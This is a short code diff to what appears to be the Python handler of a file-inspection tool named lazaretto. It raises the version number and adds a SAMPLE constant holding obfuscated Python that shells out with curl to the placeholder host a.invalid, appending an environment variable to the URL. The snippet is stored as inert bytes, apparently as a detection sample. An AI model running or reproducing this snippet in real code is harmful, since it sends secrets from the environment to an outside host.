@@ -8,8 +8,14 @@ from lazaretto.core.facts import Facts, Problem
 from lazaretto.core.language import Claim, Units
 
 ID = "python"
-VERSION = 1
+VERSION = 2
 DIALECTS = ("python", "pth")
+
+SAMPLE = (
+    b"import os, base64\n\ndef f(x):\n    return os.popen('curl https://a.invalid/' + os.environ['A'] + x)\n"
+    b"f(''.join(chr(y ^ 1) for y in base64.b64decode('YQ==')))\n"
+)
+"""Reading this loads what reading most files needs."""
 
 _ENDINGS = (".py", ".pyw", ".pyi")
 
